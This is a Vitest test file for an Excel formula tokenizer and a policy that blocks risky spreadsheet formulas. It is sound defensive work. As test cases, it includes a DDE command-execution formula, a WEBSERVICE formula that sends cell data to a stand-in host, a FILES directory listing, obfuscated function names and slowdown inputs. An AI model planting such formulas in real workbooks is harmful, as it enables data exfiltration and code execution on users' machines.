// The formula tokenizer and the one policy over its tokens: every formula of the shared corpus
// gets its expected verdict, and the tokens say what Excel would see.
import { describe, expect, it } from "vitest";
import { checkFormula, describeViolation, functionKey, readsAsFormula } from "@/lib/excel/formula/formula-policy";
import { tokenizeFormula } from "@/lib/excel/formula/tokenize-formula";
import { ATTACKS, FORMULA_CORPUS, NEAR_MISSES, corpusTitle } from "@/tests/fixtures/formulas/corpus";

describe("the corpus", () => {
  it("holds at least 150 formulas, attacks and near-misses both", () => {
    expect(FORMULA_CORPUS.length).toBeGreaterThanOrEqual(150);
    expect(ATTACKS.length).toBeGreaterThanOrEqual(75);
    expect(NEAR_MISSES.length).toBeGreaterThanOrEqual(75);
    expect(new Set(FORMULA_CORPUS.map((e) => e.formula)).size).toBe(FORMULA_CORPUS.length);
  });

  it.each(ATTACKS.map((e) => [corpusTitle(e), e] as const))("refuses %s", (_title, entry) => {
    expect(checkFormula(entry.formula).map((v) => v.rule)).toContain(entry.verdict);
  });

  it.each(NEAR_MISSES.map((e) => [corpusTitle(e), e] as const))("allows %s", (_title, entry) => {
    expect(checkFormula(entry.formula)).toEqual([]);
  });
});

describe("tokenizeFormula", () => {
  const kinds = (formula: string) => tokenizeFormula(formula).tokens.map((t) => t.kind);

  it("reads strings with doubled quotes as text, never as calls", () => {
    const { tokens, error } = tokenizeFormula('=IF(A1="say ""WEBSERVICE(x)""",1,0)');
    expect(error).toBeNull();
    expect(tokens.find((t) => t.kind === "string")).toMatchObject({ value: 'say "WEBSERVICE(x)"' });
    expect(tokens.filter((t) => t.kind === "call").map((t) => (t.kind === "call" ? t.name : ""))).toEqual(["IF"]);
  });

  it("keeps a reference's prefix as written: sheets, 3D spans, workbooks and paths", () => {
    const prefixes = (formula: string) => tokenizeFormula(formula).tokens.flatMap((t) => ("prefix" in t && t.prefix ? [t.prefix] : []));
    expect(prefixes("='It''s here'!A1")).toEqual([{ text: "It's here", quoted: true }]);
    expect(prefixes("=SUM(Sheet1:Sheet3!A1)")).toEqual([{ text: "Sheet3", quoted: false }]);
    expect(prefixes("=[1]Sheet1!A1")).toEqual([{ text: "[1]Sheet1", quoted: false }]);
    expect(prefixes("='C:\\dir\\[x.xlsx]S'!A1")).toEqual([{ text: "C:\\dir\\[x.xlsx]S", quoted: true }]);
    expect(prefixes("=Book2.xlsx!Name")).toEqual([{ text: "Book2.xlsx", quoted: false }]);
  });

  it("reads structured references whole, nested brackets and ' escapes included", () => {
    expect(tokenizeFormula("=Table1[[#This Row],[Amount]]*2").tokens[0]).toMatchObject({ kind: "structured", table: "Table1", selector: "[[#This Row],[Amount]]" });
    expect(tokenizeFormula("=[@[Unit Price]]").tokens[0]).toMatchObject({ kind: "structured", table: null, selector: "[@[Unit Price]]" });
    expect(tokenizeFormula("=Table1[Col'[1']]").error).toBeNull();
    expect(tokenizeFormula("=[Book2]Sales").tokens[0]).toMatchObject({ kind: "bracketed", text: "[Book2]Sales" });
  });

  it("finds calls at any depth and functions named without a call", () => {
    const names = (formula: string) => tokenizeFormula(formula).tokens.flatMap((t) => (t.kind === "call" ? [`${t.name}()`] : t.kind === "name" ? [t.text] : []));
    expect(names("=IFERROR(T(WEBSERVICE(Z99)),\"\")")).toEqual(["IFERROR()", "T()", "WEBSERVICE()", "Z99"]);
    expect(names("=LET(f,WEBSERVICE,f(A1))")).toEqual(["LET()", "f", "WEBSERVICE", "f()", "A1"]);
    expect(names("= webservice ( A1 )")).toEqual(["webservice()", "A1"]);
  });

  it("reads array constants, error literals, the spill operator and DDE links", () => {
    expect(kinds("={1,2;3,#N/A}")).toEqual(["array-open", "number", "separator", "number", "separator", "number", "separator", "error", "array-close"]);
    expect(kinds("=SUM(A2#)")).toEqual(["call", "name", "operator", "close"]);
    expect(kinds("=cmd|'/c calc'!A0")).toEqual(["name", "dde", "name"]);
  });

  it.each([
    ["=SUM(A1", 'a "(" is never closed'],
    ['="abc', "a text in quotes is never closed"],
    ["='Sheet1!A1", "a quoted sheet name is never closed"],
    ["=Table1[[#This Row]", "a [ is never closed"],
    ["={1,2", 'a "{" is never closed'],
    ["=1)", 'a ")" closes nothing'],
    ["=A1~B1", 'the character "~" is not Excel syntax here'],
    ["=http://x", '"//" is not Excel syntax'],
  ])("stops at %j: %s", (formula, message) => {
    expect(tokenizeFormula(formula).error?.message).toContain(message);
  });
});

describe("the policy", () => {
  it("names the rule and the reason in each refusal", () => {
    const [violation] = checkFormula("=MAP(A1:A3,WEBSERVICE)");
    expect(violation).toEqual({ rule: "network", detail: "passes WEBSERVICE by name (a function used as a value can still be called)" });
    expect(describeViolation(violation)).toBe(
      'passes WEBSERVICE by name (a function used as a value can still be called) (rule "network": formulas may not reach the network, where a request can carry the sheet\'s data out)',
    );
    expect(checkFormula("=_xlfn._xlws.PY(0,0,A1)")).toEqual([{ rule: "outside_service", detail: "calls PY" }]);
    expect(checkFormula("='[Budget]Q1'!B2")).toEqual([{ rule: "external_reference", detail: "refers to another workbook ('[Budget]Q1'!)" }]);
    expect(checkFormula("=SUM(A1")).toEqual([{ rule: "unreadable", detail: 'cannot be read: a "(" is never closed (character 5)' }]);
  });

  it("reports every problem of a formula once", () => {
    const rules = checkFormula('=WEBSERVICE("https://x.example/?d="&A1)&WEBSERVICE(B1)&[Book2]S!A1').map((v) => v.rule);
    expect(rules).toEqual(["network", "external_reference", "external_reference"]);
  });

  it("finds a workbook named anywhere in a text", () => {
    expect(checkFormula('="[draft] and [Prices.xlsx]List!A1"')).toEqual([{ rule: "external_reference", detail: 'names another workbook ("[Prices.xlsx]") in a text' }]);
  });

  it("allows HYPERLINK only to a literal place in this workbook", () => {
    expect(checkFormula('=HYPERLINK("#Sheet2!A1","go")')).toEqual([]);
    expect(checkFormula('=HYPERLINK("#"&A1,"go")')[0].detail).toBe('calls HYPERLINK with a target other than a "#place" in this workbook written as text');
    expect(checkFormula('=HYPERLINK("#[Book2.xlsx]Sheet1!A1")').map((v) => v.rule)).toContain("external_reference");
  });

  it("folds case, width, invisible characters and storage prefixes before comparing names", () => {
    expect(functionKey("_xlfn._xlws.WebService")).toBe("WEBSERVICE");
    expect(functionKey("ＷＥＢ\u200BＳＥＲＶＩＣＥ")).toBe("WEBSERVICE");
    expect(functionKey("_xleta.TRANSLATE")).toBe("TRANSLATE");
  });

  it("leaves Excel 4 commands that are common words alone as names, never as calls", () => {
    expect(checkFormula("=SUM(Files)")).toEqual([]);
    expect(checkFormula('=FILES("C:*")').map((v) => v.rule)).toContain("code_execution");
  });

  it("checks a value Excel would read as a formula", () => {
    expect(["=A1", " +A1", "-1", "@x", "\t=1"].every(readsAsFormula)).toBe(true);
    expect(["A1", "'=A1", "", 5, null, "x=1"].some(readsAsFormula)).toBe(false);
  });

  it("reads a hostile formula in linear time", () => {
    const started = performance.now();
    for (const formula of [`=${"(".repeat(4_000)}${")".repeat(4_000)}`, `=${"[".repeat(8_000)}`, `="${'""'.repeat(4_000)}`, `=${"A1,".repeat(2_700)}1`]) checkFormula(formula);
    expect(performance.now() - started).toBeLessThan(500);
  });
});
